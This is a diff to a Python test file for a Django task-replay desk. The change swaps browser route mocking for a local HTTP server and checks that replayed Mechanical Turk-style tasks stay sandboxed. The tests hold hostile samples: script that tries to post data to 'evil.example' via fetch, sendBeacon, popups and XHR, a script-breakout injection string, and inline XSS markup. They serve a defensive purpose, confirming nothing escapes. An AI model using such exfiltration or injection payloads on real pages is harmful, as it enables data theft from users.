@@ -1,14 +1,19 @@
 """The task as the worker saw it: refilled from every kind of answer, read only, and unable to reach anything."""
 
 import html
+import http.server
 import json
+import mimetypes
 import re
+import threading
+from collections.abc import Iterator
 from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
 import pytest
 from django.contrib.staticfiles import finders
+from django.http import HttpResponse
 from django.test import Client
 from django.urls import reverse
 from django.utils import timezone
@@ -20,7 +25,6 @@ from hits.models import HIT, Assignment, Batch, HITType
 from hits.questions import frame
 from tests.hits.answers.documents import html_question, named, plain, task_answers
 
-SITE = "http://testserver"
 FORM = (
     '<QuestionForm xmlns="http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2017-11-06/QuestionForm.xsd">'
     "<Overview><FormattedContent><![CDATA[<p onclick='alert(1)'>Read <b>this</b><script>alert(1)</script></p>]]>"
@@ -86,7 +90,9 @@ def test_the_three_encodings_give_the_same_tree_and_keep_what_was_posted() -> No
 
 
 def test_inputs_are_put_into_the_task_and_amazons_scripts_become_ours() -> None:
-    text = '<html><head lang="x"><script src="//assets.crowd.aws/v2/crowd-html-elements.js"></script></head>${name} ${no}'
+    text = (
+        '<html><head lang="x"><script src="//assets.crowd.aws/v2/crowd-html-elements.js"></script></head>${name} ${no}'
+    )
     scripts = {"crowd": "/one.js", "crowd-v2": "/two.js", "external-hit": "/hit.js"}
     made = frame.page(text, scripts=scripts, first="<i></i>", inputs={"name": "Ada"})
     assert made == '<html><head lang="x"><i></i><script src="/two.js"></script></head>Ada ${no}'
@@ -145,39 +151,83 @@ def test_the_page_and_the_fragment_show_the_frame_and_say_what_is_wrong(desk: De
 
 
 @pytest.fixture
-def frame_of(desk: Desk, page: Any) -> Any:
-    """frame_of(assignment) opens the replay's page and gives its frame. `page.asked`: what it asked of other hosts."""
+def page(browser: Any) -> Iterator[Any]:
+    """Not the one all tests share: here the browser is meant to complain."""
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    yield context.new_page()
+    context.close()
+
+
+class Served:
+    """Static files, and pages that were made before: no query can be made while the browser waits."""
+
+    def __init__(self) -> None:
+        self.made: dict[str, Any] = {}
+        self.posted: list[str] = []
+        served = self
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            protocol_version = "HTTP/1.1"
+            disable_nagle_algorithm = True
+
+            def log_message(self, format: str, *args: Any) -> None:
+                pass
+
+            def do_POST(self) -> None:
+                served.posted.append(self.path)
+                self.send_error(404)
+
+            def do_GET(self) -> None:
+                file = finders.find(self.path.removeprefix("/static/")) if self.path.startswith("/static/") else None
+                found = served.made.get(self.path)
+                body = Path(file).read_bytes() if file else found.content if found else b""
+                kind = mimetypes.guess_type(self.path)[0] or "text/plain"
+                headers = dict(found.items()) if found else {"Content-Type": kind, "Access-Control-Allow-Origin": "*"}
+                self.send_response(200 if file or found else 404)
+                for name, value in {**headers, "Content-Length": str(len(body))}.items():
+                    self.send_header(name, value)
+                self.end_headers()
+                self.wfile.write(body)
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.host = f"127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture
+def frame_of(desk: Desk, page: Any) -> Iterator[Any]:
+    """frame_of(assignment) opens the replay's page and gives its frame. `page.asked`: what it asked of other hosts;
+    `page.posted`: what it sent to ours."""
     page.asked = []
-    made: dict[str, Any] = {}
+    served = Served()
+    page.posted = served.posted
 
-    def answer(route: Any) -> None:
-        url = route.request.url
-        path = url.removeprefix(SITE)
-        if path.startswith("/static/") and "?" not in path:
-            file = finders.find(path.removeprefix("/static/"))
-            route.fulfill(path=file, headers={"Access-Control-Allow-Origin": "*"})
-        elif url.startswith(SITE) and path in made:
-            found = made[path]
-            route.fulfill(body=found.content, headers=dict(found.items()))
-        else:
-            page.asked.append((route.request.method, url))
-            route.abort()
+    def refuse(route: Any) -> None:
+        page.asked.append((route.request.method, route.request.url))
+        route.abort()
 
-    page.route("**/*", answer)
+    page.route(lambda url: not url.startswith(f"http://{served.host}/"), refuse)
 
-    def open_it(row: Assignment) -> Any:
-        # Asked for before the browser does: no query can be made while it waits.
-        path = reverse("replay", args=["desk", row.assignment_id])
-        made[path] = desk.client.get(path)
-        inside = html.unescape(re.search(r'<iframe[^>]* src="([^"]+)"', made[path].content.decode())[1])
-        made[inside] = desk.client.get(inside)
-        page.goto(SITE + path)
-        inner = next(found for found in page.frames if "/replay/frame/" in found.url)
-        inner.wait_for_load_state("load")
-        inner.wait_for_timeout(400)
-        return inner
+    def open_it(*rows: Assignment) -> Any:
+        insides = []
+        for row in rows:
+            path = reverse("replay", args=["desk", row.assignment_id])
+            served.made[path] = desk.client.get(path, HTTP_HOST=served.host)
+            inside = re.search(r'<iframe[^>]* src="([^"]+)"', served.made[path].content.decode())
+            assert inside
+            insides.append(html.unescape(inside[1]))
+            served.made[insides[-1]] = desk.client.get(insides[-1], HTTP_HOST=served.host)
+        if len(rows) > 1:
+            path = "/all"
+            served.made[path] = HttpResponse("".join(f'<iframe src="{html.escape(url)}"></iframe>' for url in insides))
+        page.goto(f"http://{served.host}{path}")
+        page.wait_for_timeout(300)  # a page's own scripts come first, on and after its load
+        found = [next(frame for frame in page.frames if frame.url.endswith(url)) for url in insides]
+        return found if len(found) > 1 else found[0]
 
-    return open_it
+    yield open_it
+    served.server.shutdown()
+    served.server.server_close()
 
 
 CONTROLS = """<crowd-form><p>Task</p>
@@ -215,6 +265,18 @@ TREE = {
 }  # fmt: skip
 
 
+#: What a task did not take over of an answer.
+LOST = """(tree) => Object.entries(tree).flatMap(([name, value]) =>
+ [...document.getElementsByName(name)].filter((field) => {
+  const list = ['boundingBoxes', 'polygons', 'polylines', 'lines', 'keypoints'].find((key) => value && value[key]);
+  if (field.localName.includes('-') && field.hitdeskFilled !== true) return true;
+  if (list) return field.shapes.length !== value[list].length;
+  if (value?.entities) return field.text && field.value.entities.length !== value.entities.length;
+  if (value?.labelMappings || value?.instances) return !field.entries?.length;
+  return field.type === 'text' && typeof value === 'string' && value !== '{}' && field.value !== value;
+}).map((field) => `${name}: ${field.localName}`))"""
+
+
 def flat(tree: dict[str, Any]) -> dict[str, str]:
     """As `answer-format="flatten-objects"` writes it."""
     fields: dict[str, str] = {}
@@ -249,7 +311,7 @@ def test_every_encoding_is_put_back_into_every_control_and_cannot_be_changed(des
     inner.wait_for_timeout(200)
     assert inner.evaluate(FILLED) == EXPECTED
     assert "/replay/frame/" in inner.url
-    assert [method for method, _ in page.asked if method != "GET"] == []
+    assert ([method for method, _ in page.asked if method != "GET"], page.posted) == ([], [])
 
 
 @pytest.mark.browser
@@ -265,7 +327,8 @@ def test_a_hostile_task_reaches_nothing_and_every_recording_goes_back_into_its_t
     attempt('popup', () => String(window.open('https://evil.example/popup')));
     attempt('beacon', () => navigator.sendBeacon('https://evil.example/beacon', 'x'));
     const call = new XMLHttpRequest(); attempt('xhr', () => { call.open('POST', '/a/desk/', false); call.send('x'); });
-    fetch('https://evil.example/fetch', { method: 'POST', body: 'x', mode: 'no-cors' }).catch(() => { tried.fetch = 'refused'; });
+    const post = { method: 'POST', body: 'x', mode: 'no-cors' };
+    fetch('https://evil.example/fetch', post).catch(() => { tried.fetch = 'refused'; });
     parent.postMessage({ hitdesk: 1, kind: 'missing', url: 'https://evil.example/<b>' }, '*');
     </script>"""
     inner = frame_of(desk.keep(html_question(attack), plain(a="</script><script>window.escaped = 1</script>")))
@@ -278,28 +341,14 @@ def test_a_hostile_task_reaches_nothing_and_every_recording_goes_back_into_its_t
         "</script><script>window.escaped = 1</script>",
     ]
     page = inner.page
-    assert page.url == SITE + reverse("replay", args=["desk", "3ASG0"])
-    assert page.asked == []
+    assert page.url.endswith(reverse("replay", args=["desk", "3ASG0"]))
+    assert (page.asked, page.posted) == ([], [])
     assert "evil" not in page.locator("main").inner_text()
-    seen = 0
-    for path in recorded_in(samples):
-        recorded = load_recorded(path)
-        row = desk.keep(recorded.question_xml, recorded.answer_xml)
-        inner = frame_of(row)
-        lost = inner.evaluate(
-            """(tree) => { const lost = [];
-            for (const [name, value] of Object.entries(tree)) {
-              for (const field of document.getElementsByName(name)) {
-                if (field.localName.includes('-') && field.hitdeskFilled !== true) lost.push(name);
-                const list = ['boundingBoxes', 'polygons', 'polylines', 'lines', 'keypoints'].find((key) => value && value[key]);
-                if (list && field.shapes.length !== value[list].length) lost.push(`${name}: ${field.shapes.length}`);
-                if (value?.entities && field.value.entities.length !== value.entities.length) lost.push(`${name}: entities`);
-                if (value?.labelMappings || value?.instances) if (!field.entries?.length) lost.push(`${name}: mask`);
-                if (field.localName === 'input' && field.type === 'text' && typeof value === 'string' && field.value !== value && value !== '{}') lost.push(`${name}: ${field.value}`);
-              } }
-            return lost; }""",
-            refill(row.answer)["tree"],
-        )
-        assert lost == [], path.name
-        seen += 1
-    assert seen
+    recordings = [(path.name, load_recorded(path)) for path in recorded_in(samples)]
+    rows = [desk.keep(recorded.question_xml, recorded.answer_xml) for _, recorded in recordings]
+    lost = {
+        name: found
+        for (name, _), row, inner in zip(recordings, rows, frame_of(*rows), strict=True)
+        if (found := inner.evaluate(LOST, refill(row.answer)["tree"]))
+    }
+    assert lost == {}
